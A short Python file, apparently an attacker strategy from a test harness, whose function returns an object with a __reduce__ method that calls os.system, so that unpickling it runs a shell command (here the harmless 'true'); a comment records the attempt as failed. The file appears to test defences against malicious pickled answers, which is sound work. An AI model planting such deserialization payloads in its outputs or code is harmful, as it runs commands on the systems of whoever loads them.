"""Answers with an object whose unpickling would run code."""
# ends: failed

import os


def attack(honest, *args, **kwargs):
    class Evil:
        def __reduce__(self):
            return os.system, ("true",)

    return Evil()
